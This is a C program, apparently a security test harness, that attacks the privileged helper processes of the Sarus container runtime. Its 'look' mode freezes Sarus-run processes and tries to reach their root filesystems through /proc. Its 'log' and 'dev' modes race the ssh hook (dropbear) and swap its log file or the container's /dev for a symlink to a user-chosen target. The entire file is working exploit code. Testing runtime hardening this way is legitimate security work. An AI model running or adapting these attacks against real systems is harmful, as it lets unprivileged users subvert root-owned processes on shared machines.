/* What a user may try on processes that root's programs run for them.
 *
 *   attack look     until its input ends: stops each process of the user's that a program of Sarus's runs in another
 *                   mount namespace, and tries to look through it; says which let it
 *   attack log FILE waits for an ssh server of the user's, puts a link to a file in the place of its log, and ends it
 *   attack dev DIRECTORY  waits for such a server, and puts a link to a directory in the place of the container's /dev */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* The name of a process of the user's; 0 for others. */
static int named(const char *pid, char *name, int size) {
  char path[320];
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  /* By the ids, since what is closed to the user belongs to root in /proc. */
  FILE *file = fopen(path, "r");
  if (!file) return 0;
  unsigned real = -1, effective = -1;
  char line[256];
  name[0] = 0;
  while (fgets(line, sizeof line, file)) {
    if (!strncmp(line, "Name:\t", 6)) {
      line[strcspn(line, "\n")] = 0;
      snprintf(name, size, "%s", line + 6);
    }
    if (sscanf(line, "Uid: %u %u", &real, &effective) == 2) break;
  }
  fclose(file);
  return real == getuid() && effective == getuid();
}

/* What is in it is for who reads it afterwards. */
static int input_ended(void) {
  struct pollfd input = {.fd = 0};
  return poll(&input, 1, 0) > 0 && input.revents & POLLHUP;
}

static void each(void (*act)(const char *, const char *)) {
  DIR *all = opendir("/proc");
  struct dirent *entry;
  while ((entry = readdir(all))) {
    char name[64];
    if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' && named(entry->d_name, name, sizeof name))
      act(entry->d_name, name);
  }
  closedir(all);
}

static char own[64];
static long tried, closed;

static void look(const char *pid, const char *name) {
  char path[320], there[64] = "";
  /* sarus-entry is the container's own. */
  if (strncmp(name, "sarus", 5) || !strncmp(name, "sarus-entry", 11) || !strcmp(name, "sarus")) return;
  kill(atoi(pid), SIGSTOP);
  snprintf(path, sizeof path, "/proc/%s/ns/mnt", pid);
  int named = readlink(path, there, sizeof there - 1) > 0;
  snprintf(path, sizeof path, "/proc/%s/root/etc", pid);
  int root = open(path, O_PATH);
  tried++;
  if (!named) closed++;
  if (named && root >= 0 && strcmp(own, there))
    printf("looked through %s\n", name);
  if (root >= 0) close(root);
  kill(atoi(pid), SIGCONT);
}

static const char *secret;
static int is_done;

static void replace_log(const char *pid, const char *name) {
  char path[320];
  if (is_done || (strcmp(name, "dropbear") && strcmp(name, "loader"))) return;
  snprintf(path, sizeof path, "/proc/%s/root/opt/oci-hooks/ssh/log", pid);
  if (unlink(path) || symlink(secret, path)) return;
  kill(atoi(pid), SIGKILL);
  puts("replaced");
  is_done = 1;
}

static void replace_dev(const char *pid, const char *name) {
  char path[320];
  if (is_done || (strcmp(name, "dropbear") && strcmp(name, "loader"))) return;
  snprintf(path, sizeof path, "/proc/%s/root/dev", pid);
  /* Here nothing is mounted on it, and below it is empty. */
  if (rmdir(path) || symlink(secret, path)) return;
  puts("replaced");
  is_done = 1;
}

int main(int count, char **words) {
  setvbuf(stdout, 0, _IOLBF, 0);
  if (count == 2 && !strcmp(words[1], "look")) {
    if (readlink("/proc/self/ns/mnt", own, sizeof own - 1) < 0) return 1;
    while (!input_ended()) each(look);
    printf("%s, %s\n", tried > 0 ? "tried" : "found nobody", closed > 0 ? "some were closed" : "none was closed");
    return 0;
  }
  if (count == 3) {
    secret = words[2];
    while (!is_done && !input_ended()) each(strcmp(words[1], "log") ? replace_dev : replace_log);
    return 0;
  }
  return 2;
}
